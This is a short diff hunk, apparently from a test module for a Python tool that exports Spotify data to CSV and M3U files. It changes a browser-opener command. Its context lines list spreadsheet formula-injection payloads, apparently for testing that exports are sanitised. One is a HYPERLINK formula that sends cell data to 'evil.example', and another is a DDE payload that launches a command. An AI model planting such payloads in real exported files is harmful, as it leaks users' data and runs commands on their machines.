@@ -24,7 +24,7 @@ from desktoprec.export.files import render_csv, render_m3u
 from desktoprec.spotify import parse
 from desktoprec.spotify.emulator import EmulatorServer, generate_account
 
-OPENER = f"{sys.executable} -c 'import sys, httpx; httpx.get(sys.argv[1], follow_redirects=True)'"
+OPENER = f"{sys.executable} {Path(__file__).resolve().parents[1] / 'fake_browser.py'}"
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+2+CMD|' /C CALC'!A0",
             "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1", "  =1+1", "\uff1d1+1")
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
